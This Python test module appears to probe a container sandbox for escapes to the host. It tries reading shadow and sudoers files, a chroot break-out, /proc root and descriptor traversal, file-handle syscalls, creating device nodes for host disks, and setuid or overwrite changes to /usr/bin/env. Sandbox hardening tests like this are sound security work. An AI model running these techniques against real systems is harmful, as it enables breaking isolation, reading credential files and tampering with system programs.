"""Attacks on the host's files, and on the image as a way to them."""
import ctypes
import fcntl
import os
import shutil
import stat
import struct

from attack_core import given, given_number, listed, processes

PROGRAM = "/usr/bin/env"


def attack_host_file(finding):
    for flags in (os.O_RDONLY, os.O_WRONLY, os.O_PATH):
        finding.open(given("HOST_FILE"), flags)


def attack_host_shadow(finding):
    finding.absent("none is there")
    for name in ("shadow", "gshadow", "sudoers"):
        try:
            data = open("/etc/" + name, "rb").read(65536)
        except OSError:
            continue
        value = 14695981039346656037
        for byte in data:
            value = (value ^ byte) * 1099511628211 & (1 << 64) - 1
        if data and value == given_number("HASH_" + name):
            finding.escaped(f"the host's {name} was read")
        else:
            finding.harmless("the image has another " + name)


def attack_state_folder(finding):
    for name in ("", "/secret", "/priv", "/priv/instance", "/db", "/run"):
        finding.attempt(name or "/", os.listdir, given("STATE") + name)
        finding.open(given("STATE") + name)


def attack_dotdot(finding):
    root = os.stat("/")
    for start in ("/", "/workspace", "/proc/self", "/usr", "/dev/pts"):
        fd = os.open(start, os.O_PATH | os.O_DIRECTORY)
        above = os.stat("../" * 32, dir_fd=fd)
        if (above.st_dev, above.st_ino) != (root.st_dev, root.st_ino):
            finding.escaped(".. left the root from " + start)
        finding.attempt("the host's file", os.open, "../" * 32 + given("HOST_FILE"), os.O_RDONLY,
                        dir_fd=fd)
        os.close(fd)


def attack_proc_root_links(finding):
    for pid in [*processes(), "self"]:
        for link in ("root", "cwd"):
            finding.open(f"/proc/{pid}/{link}/{given('HOST_FILE')}")
            finding.open(f"/proc/{pid}/{link}/../../../..{given('HOST_FILE')}")
    finding.open("/proc/1/root", os.O_PATH)
    finding.open("/proc/1/cwd", os.O_PATH)


def attack_proc_map_files(finding):
    for pid in (1, "self"):
        folder = f"/proc/{pid}/map_files"
        finding.attempt(folder, lambda: [os.open(f"{folder}/{name}", os.O_RDWR)
                                         for name in os.listdir(folder)] or 1 / 0)


def attack_proc_fd_links(finding):
    finding.attempt("list", os.listdir, "/proc/1/fd")
    for fd in range(64):
        finding.open(f"/proc/1/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)


def attack_fd_as_cwd(finding):
    finding.stopped("no folder among the descriptors")
    for pid in ("self", 1):
        for fd in range(512):
            try:
                os.chdir(f"/proc/{pid}/fd/{fd}")
                finding.escaped(f"/proc/{pid}/fd/{fd} is a folder")
            except OSError:
                pass


def attack_file_handles(finding):
    for place in ("/usr", "/etc", "/", "/proc"):
        mount_fd = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
        for inode in (1, 2, 3):
            handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 144)
            finding.call(place, 304, mount_fd, handle, os.O_RDONLY)
        os.close(mount_fd)


def attack_chroot_escape(finding):
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    before = os.stat("/")
    os.makedirs("/tmp/below", exist_ok=True)
    try:
        os.chroot("/tmp/below")
    except OSError as problem:
        finding.failed(problem.errno, "chroot")
        return
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    after = os.stat("/")
    if (before.st_dev, before.st_ino) != (after.st_dev, after.st_ino):
        finding.escaped("the root is another one")
    finding.open(given("HOST_FILE"))
    finding.harmless("chroot is allowed; the way out of it ends in the sandbox's root")


def attack_symlink_to_host(finding):
    os.symlink(given("HOST_FILE"), "/tmp/py-link")
    finding.open("/tmp/py-link")
    finding.open("/tmp/py-link", os.O_WRONLY | os.O_CREAT, any_error=True)


def attack_hardlink_to_host(finding):
    fd = os.open(PROGRAM, os.O_RDONLY)
    finding.attempt("link", os.link, PROGRAM, "/tmp/py-hard")
    finding.attempt("link of a descriptor", os.link, f"/proc/self/fd/{fd}", "/tmp/py-hard",
                    follow_symlinks=True)
    finding.call("linkat", 265, fd, "", -100, "/tmp/py-hard", 0x1000)


def attack_host_program(finding):
    fd = os.open(PROGRAM, os.O_RDONLY)
    finding.open(PROGRAM, os.O_WRONLY)
    finding.open(f"/proc/self/fd/{fd}", os.O_RDWR)
    for what, function, *arguments in (
            ("truncate", os.truncate, PROGRAM, 0), ("chmod", os.chmod, PROGRAM, 0o6777),
            ("fchmod", os.fchmod, fd, 0o6777),
            ("chown", os.chown, PROGRAM, os.getuid(), os.getgid()),
            ("utime", os.utime, PROGRAM), ("setxattr", os.setxattr, PROGRAM, "user.berth", b"x"),
            ("unlink", os.unlink, PROGRAM), ("rename", os.rename, PROGRAM, "/usr/bin/env2"),
            ("folder", os.rename, "/usr/bin", "/usr/bin2"),
            ("symlink", os.symlink, "/tmp", "/usr/bin/berth-attack"),
            ("copy", shutil.copyfile, "/etc/passwd", PROGRAM)):
        finding.attempt(what, function, *arguments)


def _try_device(finding, kind, major, minor, what):
    path = f"/tmp/py-device-{major}-{minor}"
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        os.mknod(path, kind | 0o666, os.makedev(major, minor))
    except OSError as problem:
        finding.failed(problem.errno, what)
        return
    finding.open(path, os.O_RDWR | os.O_NONBLOCK)
    finding.open(path, os.O_RDONLY | os.O_NONBLOCK)


def attack_host_disk(finding):
    below = os.stat("/usr").st_dev
    for number in [(os.major(below), os.minor(below)), (8, 0), (9, 0), (10, 0), (254, 0), (259, 0)]:
        _try_device(finding, stat.S_IFBLK, *number, str(number))


def attack_host_devices(finding):
    for number in ((1, 1), (1, 2), (1, 3), (1, 4), (1, 11), (4, 0), (5, 1), (10, 229), (10, 232),
                   (10, 200), (10, 237)):
        _try_device(finding, stat.S_IFCHR, *number, str(number))
    _try_device(finding, stat.S_IFBLK, 7, 0, "loop0")


def attack_file_system_ioctls(finding):
    for place in ("/usr", PROGRAM, "/etc/passwd"):
        fd = os.open(place, os.O_RDONLY)
        for what, request, value in (
                ("flags", 0x40086602, struct.pack("l", 0x10)),
                ("project id", 0x401c5820, struct.pack("IIIII8x", 0, 0, 0, 77, 0)),
                ("trim", 0xc0185879, struct.pack("QQQ", 0, 4096, 0))):
            finding.attempt(what, fcntl.ioctl, fd, request, value, any_error=True)
        os.close(fd)


def attack_foreign_names(finding):
    finding.stopped("none")
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/workspace", "/mnt", "/run", "/root"):
        for name in listed(folder):
            finding.look_at(name, folder)


def attack_host_fifo(finding):
    finding.open(given("HOST_FIFO"), os.O_RDWR | os.O_NONBLOCK)
